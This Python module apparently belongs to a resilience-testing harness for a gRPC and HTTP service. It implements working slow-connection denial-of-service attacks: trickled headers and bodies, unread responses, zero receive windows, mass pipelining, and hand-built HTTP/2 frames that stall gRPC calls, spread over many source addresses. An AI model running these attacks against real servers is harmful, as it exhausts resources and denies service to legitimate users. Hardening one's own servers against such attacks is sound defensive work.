"""Attacks that hold connections: what each connection sends, and how it behaves afterwards.

None has a token. A connection that the server closes is reopened after `RECONNECT_S` seconds. Each attacker process
runs one attack with a number of connections from a list of addresses.
"""

from __future__ import annotations

import asyncio
import contextlib
import socket
import struct
from collections.abc import Awaitable, Callable, Sequence

RECONNECT_S = 1.0
TRICKLE_S = 0.5
RECEIVE_BUFFER_BYTES = 2048
STATIC_FILE = b"GET /static_content/swagger-ui-bundle.js HTTP/1.1\r\nhost: x\r\n\r\n"
LIVE = b"GET /livez HTTP/1.1\r\nhost: x\r\n\r\n"
GRPC_MESSAGE_BYTES = 60_000
GRPC_CALLS = 1
"""Unfinished calls of one connection."""

Attack = Callable[[socket.socket], Awaitable[None]]


async def silent(connection: socket.socket) -> None:
    """Connect and send nothing."""
    await _wait_for_close(connection)


async def idle_bytes(connection: socket.socket) -> None:
    """One answered request, then an empty line every half second until the server closes the connection."""
    loop = asyncio.get_running_loop()
    await loop.sock_sendall(connection, LIVE)
    await loop.sock_recv(connection, 65_536)
    await _trickle(connection, b"\r\n")


async def slow_headers(connection: socket.socket) -> None:
    """One byte of a header every half second."""
    await asyncio.get_running_loop().sock_sendall(connection, b"GET /livez HTTP/1.1\r\nhost: x\r\nx-slow: ")
    await _trickle(connection, b"a")


async def slow_body(connection: socket.socket) -> None:
    """A refused request whose body never ends."""
    await asyncio.get_running_loop().sock_sendall(
        connection,
        b"POST /v1/queries HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 60000\r\n\r\n",
    )
    await _trickle(connection, b"{")


async def unread_responses(connection: socket.socket) -> None:
    """Three requests for the largest static file, whose responses are never read."""
    await asyncio.get_running_loop().sock_sendall(connection, STATIC_FILE * 3)
    await asyncio.sleep(3600)


async def zero_window(connection: socket.socket) -> None:
    """One request for the largest static file with the smallest receive buffer of the kernel, about two kilobytes.

    One byte is read every half second, so the connection appears slow rather than dead.
    """
    loop = asyncio.get_running_loop()
    await loop.sock_sendall(connection, STATIC_FILE)
    while True:
        await asyncio.sleep(TRICKLE_S)
        if not await loop.sock_recv(connection, 1):
            return


async def pipelining(connection: socket.socket) -> None:
    """One thousand pipelined requests at once; nothing is read."""
    await asyncio.get_running_loop().sock_sendall(connection, LIVE * 1000)
    await asyncio.sleep(3600)


async def grpc_unfinished(connection: socket.socket) -> None:
    """Calls without a token whose messages lack their last byte."""
    loop = asyncio.get_running_loop()
    await loop.sock_sendall(connection, _preface(initial_window=None))
    for index in range(GRPC_CALLS):
        await loop.sock_sendall(connection, _call(2 * index + 1, b"/frontdesk.v1.FrontdeskService/Understand"))
        with contextlib.suppress(TimeoutError):  # the server's window is exhausted
            await _send_unfinished(connection, 2 * index + 1)
    await _wait_for_close(connection)


async def grpc_zero_window(connection: socket.socket) -> None:
    """Watches of the health service with a window of zero: their messages can never be sent."""
    loop = asyncio.get_running_loop()
    await loop.sock_sendall(connection, _preface(initial_window=0))
    for index in range(GRPC_CALLS):
        stream = 2 * index + 1
        await loop.sock_sendall(connection, _call(stream, b"/grpc.health.v1.Health/Watch"))
        await loop.sock_sendall(connection, _frame(0, 1, stream, b"\x00\x00\x00\x00\x00"))
    await _wait_for_close(connection)


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        silent,
        idle_bytes,
        slow_headers,
        slow_body,
        unread_responses,
        zero_window,
        pipelining,
        grpc_unfinished,
        grpc_zero_window,
    )
}


async def attack_with(name: str, target: tuple[str, int], connections: int, addresses: Sequence[str]) -> None:
    """Hold `connections` connections, distributed over the addresses, until cancelled."""
    await asyncio.gather(
        *(_repeat(ATTACKS[name], target, addresses[index % len(addresses)]) for index in range(connections))
    )


async def _repeat(attack: Attack, target: tuple[str, int], address: str) -> None:
    while True:
        with contextlib.suppress(OSError, EOFError), socket.socket() as connection:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, RECEIVE_BUFFER_BYTES)
            connection.setblocking(False)
            connection.bind((address, 0))
            await asyncio.wait_for(asyncio.get_running_loop().sock_connect(connection, target), 5.0)
            await attack(connection)
        await asyncio.sleep(RECONNECT_S)


async def _trickle(connection: socket.socket, content: bytes) -> None:
    """Send `content` every `TRICKLE_S` seconds until the server closes the connection; then raises EOFError."""
    while True:
        await asyncio.get_running_loop().sock_sendall(connection, content)
        await asyncio.sleep(TRICKLE_S)
        _raise_if_closed(connection)


async def _wait_for_close(connection: socket.socket) -> None:
    while await asyncio.get_running_loop().sock_recv(connection, 65_536):
        pass


def _raise_if_closed(connection: socket.socket) -> None:
    with contextlib.suppress(BlockingIOError):
        if not connection.recv(65_536):
            raise EOFError


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """An HTTP/2 frame (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def _preface(initial_window: int | None) -> bytes:
    settings = b"" if initial_window is None else struct.pack(">HI", 4, initial_window)
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, settings)


def _call(stream: int, path: bytes) -> bytes:
    """HEADERS of a gRPC call, every field as a literal without indexing (RFC 7541, section 6.2.2)."""
    fields = (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path),
        (b":authority", b"x"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
    block = b"".join(bytes((0, len(name))) + name + bytes((len(value),)) + value for name, value in fields)
    return _frame(1, 4, stream, block)


async def _send_unfinished(connection: socket.socket, stream: int) -> None:
    """The prefix of a message, and all but the last byte of it, in frames of at most 16 KiB."""
    loop = asyncio.get_running_loop()
    data = b"\x00" + struct.pack(">I", GRPC_MESSAGE_BYTES) + bytes(GRPC_MESSAGE_BYTES - 1)
    for start in range(0, len(data), 16_384):
        await asyncio.wait_for(
            loop.sock_sendall(connection, _frame(0, 0, stream, data[start : start + 16_384])), TRICKLE_S
        )
